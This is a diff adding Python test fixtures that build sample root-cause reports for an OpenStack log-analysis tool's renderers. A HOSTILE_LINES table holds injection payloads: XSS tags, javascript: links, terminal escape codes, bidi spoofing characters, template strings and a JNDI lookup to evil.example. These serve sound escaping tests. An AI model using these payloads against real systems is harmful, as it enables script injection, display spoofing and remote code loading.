@@ -1,0 +1,309 @@
+"""Reports that the tests of the renderings share."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta
+
+from openstack_rca.rca.report import (
+    Category,
+    Cause,
+    ConfidencePart,
+    EvidenceItem,
+    EvidenceSort,
+    FileSummary,
+    Hop,
+    ModelUsed,
+    Report,
+    RuledOut,
+    TimelineEntry,
+    Verdict,
+    Window,
+)
+
+START = datetime(2026, 3, 9, 14, 2, 11, 375000, tzinfo=UTC)
+DIGEST = "9f2c4e7a11d0b3586e4f0a1c2d3e4f5061728394a5b6c7d8e9f0a1b2c3d4e5f6"
+REQUEST = "req-0f4b8a52-67f1-4b0e-9f0c-52d1f5b8e6aa"
+
+HOSTILE_LINES = {
+    "script": "<script>alert(1)</script><img src=x onerror=alert(2)></pre></td></html>",
+    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b1A \x1bP+q\x1b\\ \x08\x08\x08",
+    "fence": "```\n````\n# heading\n`````sh\n[link](http://evil.example/)",
+    "markdown": "**bold** _em_ [x](javascript:alert(1)) ![i](http://evil.example/p) @everyone #1 <b>b</b> | a | :boom:",
+    "rich": "[red]danger[/red] [/] [link=http://evil.example]x[/link] :boom: [bold",
+    "bidi": "user=\u202etxt.exe\u202c \u2066hidden\u2069 zero\u200bwidth \ufeff \U000e0041",
+    "long": "x" * 300_000,
+    "combining": "Z" + "\u0301" * 400,
+    "wide": "\u65e5\u672c\u8a9e" * 200,
+    "template": "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://evil.example/a}",
+}
+
+
+def evidence(position: int = 0, **changes: object) -> EvidenceItem:
+    """Return a piece of evidence against mariadb."""
+    values: dict[str, object] = {
+        "file": "controller/nova-conductor.log",
+        "line": 412 + position,
+        "lines": 38,
+        "text": f"2026-03-09 14:02:11.375 27186 ERROR oslo_db.sqlalchemy.engines [None {REQUEST} - - - - - -] Database "
+        "connection was found disconnected; reconnecting: oslo_db.exception.DBConnectionError: "
+        "(pymysql.err.OperationalError) (2003, \"Can't connect to MySQL server on 'controller' ([Errno 111])\")",
+        "time": START + timedelta(seconds=position * 7),
+        "host": "controller",
+        "service": "nova-conductor",
+        "sort": EvidenceSort.SIGNATURE,
+        "accuses": "mariadb",
+        "accused_host": "controller",
+        "why": "the client could not open a connection to the database server",
+        "count": 412 - position,
+        "baseline": "0",
+        "score": 0.998,
+        "signature": "database-connection-refused",
+    }
+    return EvidenceItem.model_validate(values | changes)
+
+
+def database_cause() -> Cause:
+    """Return the first cause of the confirmed report."""
+    return Cause(
+        component="mariadb",
+        host="controller",
+        category=Category.PROCESS_DOWN,
+        statement="The database server on controller went away at 14:02:09 and refused every connection from nova, "
+        "neutron, keystone and cinder until 14:06:40.",
+        confidence=0.93,
+        confidence_parts=[
+            ConfidencePart(name="direct evidence", value=0.45, note="mariadbd logged its own shutdown"),
+            ConfidencePart(name="independent accusers", value=0.33, note="6 services"),
+            ConfidencePart(name="onset first", value=0.2),
+            ConfidencePart(name="unsupported hops", value=-0.05, note="1 of 5"),
+        ],
+        onset=START - timedelta(seconds=2),
+        evidence=[
+            evidence(
+                file="controller/mariadb.log",
+                line=88,
+                lines=1,
+                text="2026-03-09 14:02:09 0 [Note] /usr/sbin/mariadbd (initiated by: unknown): Normal shutdown",
+                time=START - timedelta(seconds=2),
+                service="mariadb",
+                sort=EvidenceSort.NEW_TEMPLATE,
+                why="the server says itself that it shuts down",
+                count=1,
+                score=None,
+                signature="mariadb-shutdown",
+            ),
+            evidence(),
+            evidence(1, file="controller/keystone.log", line=1207, service="keystone"),
+            evidence(2, file="controller/neutron-server.log", line=2240, service="neutron-server"),
+            evidence(
+                3,
+                file="controller/mariadb.log",
+                line=90,
+                lines=1,
+                text="2026-03-09 14:02:10 0 [Note] /usr/sbin/mariadbd: Shutdown complete",
+                service="mariadb",
+                score=None,
+                sort=EvidenceSort.SILENCE,
+                count=0,
+                baseline="35/min",
+                why="the server logged at a steady rate and then nothing for 271 s",
+                signature=None,
+            ),
+            evidence(4, file="controller/cinder-api.log", line=77, service="cinder-api"),
+            evidence(5, file="compute1/nova-compute.log", line=3051, service="nova-compute", host="compute1"),
+        ],
+        explains=["nova-conductor", "nova-api", "keystone", "neutron-server", "cinder-api"],
+        remedy="Start the database server on controller (systemctl start mariadb), then find out what stopped it: the "
+        "journal of that host names the process or person that sent the signal.",
+        next_checks=[
+            "ssh controller systemctl status mariadb",
+            "ssh controller journalctl -u mariadb --since '2026-03-09 14:00:00' --no-pager",
+        ],
+    )
+
+
+def messaging_cause() -> Cause:
+    """Return the second cause of the confirmed report."""
+    return Cause(
+        component="rabbitmq",
+        host="controller",
+        category=Category.MESSAGING,
+        statement="The message broker blocked its publishers because the disk of controller was nearly full.",
+        confidence=0.58,
+        confidence_parts=[ConfidencePart(name="accusation", value=0.58, note="3 services")],
+        onset=START + timedelta(seconds=95),
+        evidence=[
+            evidence(
+                file="compute2/nova-compute.log",
+                line=901,
+                lines=1,
+                text="2026-03-09 14:03:46.001 27217 ERROR oslo.messaging._drivers.impl_rabbit [-] The broker has "
+                "blocked the connection: connection blocked, see broker logs",
+                time=START + timedelta(seconds=95),
+                host="compute2",
+                service="nova-compute",
+                sort=EvidenceSort.RATE_CHANGE,
+                accuses="rabbitmq",
+                why="only the broker can block a publisher",
+                count=57,
+                baseline="2/h",
+                score=0.871,
+                signature=None,
+            )
+        ],
+        explains=["nova-compute"],
+        remedy="Free disk space on controller; the broker unblocks by itself.",
+        next_checks=["ssh controller df -h /var/lib/rabbitmq", "ssh controller rabbitmqctl status"],
+    )
+
+
+def confirmed() -> Report:
+    """Return a report with two causes and every part filled."""
+    return Report(
+        created=START + timedelta(minutes=30),
+        issue="Instances stay in BUILD and the dashboard answers with 503",
+        logs=["/var/log/kolla"],
+        verdict=Verdict.CONFIRMED,
+        summary="The database server on controller was stopped; five services that need it failed within 20 seconds. "
+        "Later the message broker blocked its publishers for want of disk space.",
+        window=Window(start=START - timedelta(seconds=30), end=START + timedelta(minutes=5), found=True),
+        causes=[database_cause(), messaging_cause()],
+        chain=[
+            Hop(source="mariadb", target="nova-conductor", supported=True, note="DBConnectionError, 412 times"),
+            Hop(source="nova-conductor", target="nova-api", supported=True, note="MessagingTimeout"),
+            Hop(source="nova-conductor", target="nova-compute", supported=False),
+            Hop(source="mariadb", target="keystone", supported=True, note="DBConnectionError, 96 times"),
+            Hop(source="keystone", target="nova-api", supported=False, note="tokens could not be checked"),
+            Hop(source="rabbitmq", target="nova-compute", supported=True, note="connection blocked"),
+        ],
+        timeline=[
+            _entry(-30, "mariadb", "the window begins", "window"),
+            _entry(-2, "mariadb", "Normal shutdown", "onset"),
+            _entry(0, "nova-conductor", "first DBConnectionError", "evidence"),
+            _entry(5, "keystone", "first DBConnectionError", "evidence"),
+            _entry(7, "neutron-server", "first DBConnectionError", "evidence"),
+            _entry(9, "mariadb", "no line for 271 s", "silence"),
+            _entry(95, "rabbitmq", "connection blocked", "onset"),
+            _entry(96, "nova-compute", "57 publishers blocked", "evidence", host="compute2"),
+            _entry(271, "mariadb", "ready for connections", "recovery"),
+            _entry(300, "mariadb", "the window ends", "window"),
+        ],
+        blast_radius=["nova-conductor on controller", "nova-api on controller", "keystone", "nova-compute on compute2"],
+        ruled_out=[RuledOut(component="nova-api", reason="fails only because nova-conductor does not answer")],
+        missing=["compute3 logged nothing inside the window", "0.4 % of the lines have a format that is not known"],
+        events=20417,
+        lines=24873,
+        files=[
+            FileSummary(file="controller/nova-conductor.log", lines=5120, events=4800, unknown_lines=0, format="oslo"),
+            FileSummary(file="controller/mariadb.log", lines=140, events=139, unknown_lines=99, format="mariadb"),
+            FileSummary(file="compute2/nova-compute.log", lines=1922, events=1901, unknown_lines=0, format="oslo"),
+        ],
+        model=ModelUsed(
+            name="lstm_model",
+            version="15",
+            digest=DIGEST,
+            source="cache",
+            notices=["The registry did not answer; version 15 from the cache is used (its digest was verified)."],
+        ),
+        seconds={"read": 0.82, "score": 0.41, "explain": 0.12},
+        command="openstack-rca analyze /var/log/kolla --issue 'Instances stay in BUILD and the dashboard answers with "
+        "503' --model 15",
+    )
+
+
+def healthy() -> Report:
+    """Return a report without a failure."""
+    return Report(
+        created=START,
+        issue="Is everything all right?",
+        logs=["/var/log/kolla"],
+        verdict=Verdict.NO_FAILURE_FOUND,
+        summary="No service logged anything that its normal logs do not hold, and none fell silent.",
+        window=Window(start=START, end=START + timedelta(hours=1)),
+        events=10211,
+        lines=10215,
+        files=[FileSummary(file="controller/nova-api.log", lines=10215, events=10211, unknown_lines=0, format="oslo")],
+        model=ModelUsed(name="lstm_model", version="15", digest=DIGEST, source="store"),
+    )
+
+
+def inconclusive() -> Report:
+    """Return a report with a weak cause and much missing."""
+    return Report(
+        created=START,
+        issue="Volumes cannot be attached",
+        logs=["compute1/nova-compute.log"],
+        verdict=Verdict.INCONCLUSIVE,
+        summary="Requests to the block storage fail, but the logs of the block storage itself are not here.",
+        window=Window(),
+        causes=[
+            Cause(
+                component="cinder-volume",
+                category=Category.STORAGE,
+                statement="The volume service may not be working.",
+                confidence=0.31,
+                evidence=[
+                    evidence(
+                        file="nova-compute.log",
+                        line=9,
+                        lines=1,
+                        time=None,
+                        accuses="cinder-volume",
+                        accused_host=None,
+                        sort=EvidenceSort.MODEL_ANOMALY,
+                        baseline="",
+                        count=3,
+                        signature=None,
+                    )
+                ],
+                next_checks=["openstack volume service list"],
+            )
+        ],
+        missing=["no log of any cinder service", "no log of the host controller"],
+        events=120,
+        lines=140,
+        files=[FileSummary(file="nova-compute.log", lines=140, events=120, unknown_lines=12, format="oslo")],
+        model=ModelUsed(name="none", source="none", notices=["There is no model yet; scores are left out."]),
+        fast=True,
+    )
+
+
+def hostile(text: str) -> Report:
+    """Return the confirmed report with ``text`` in every place where a report holds text."""
+    base = confirmed()
+    cause = base.causes[0].model_copy(
+        update={
+            "component": text,
+            "host": text,
+            "statement": text,
+            "confidence_parts": [ConfidencePart(name=text, value=0.5, note=text)],
+            "evidence": [
+                evidence(file=text, text=text, why=text, accuses=text, accused_host=text, baseline=text, signature=text)
+            ]
+            * 7,
+            "explains": [text],
+            "remedy": text,
+            "next_checks": [text],
+        }
+    )
+    return base.model_copy(
+        update={
+            "issue": text,
+            "logs": [text],
+            "summary": text,
+            "causes": [cause],
+            "chain": [Hop(source=text, target="nova-api", supported=False, note=text)],
+            "timeline": [TimelineEntry(time=START, component=text, host=text, text=text, kind=text)],
+            "blast_radius": [text],
+            "ruled_out": [RuledOut(component=text, reason=text)],
+            "missing": [text],
+            "files": [FileSummary(file=text, lines=1, events=1, unknown_lines=1, format=text)],
+            "model": ModelUsed(name=text, version=text, digest=text, source=text, notices=[text]),
+            "seconds": {text: 1.0},
+            "command": text,
+        }
+    )
+
+
+def _entry(seconds: float, component: str, text: str, kind: str, host: str = "controller") -> TimelineEntry:
+    return TimelineEntry(time=START + timedelta(seconds=seconds), component=component, host=host, text=text, kind=kind)
